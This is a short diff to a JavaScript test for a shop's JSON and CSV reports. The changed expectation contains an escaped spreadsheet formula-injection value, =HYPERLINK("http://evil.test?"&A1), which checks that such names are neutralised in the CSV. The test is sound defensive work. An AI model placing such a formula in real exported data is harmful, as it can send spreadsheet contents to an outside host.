@@ -346,7 +346,7 @@ test('a name that a spreadsheet would calculate is unchanged in JSON, and text i
   await shop.report();
 
   expect((await shop.json('2026-03-01')).products[0].name).toBe(name);
-  expect(await shop.text('2026-03-01', 'csv')).toContain(`,mug,"'=HYPERLINK(""http://evil.test?""&A1)",1,`);
+  expect(await shop.text('2026-03-01', 'csv')).toContain(`,"mug","'=HYPERLINK(""http://evil.test?""&A1)","1",`);
 });
 
 test('a day with many events logs its progress and how long it took', async () => {
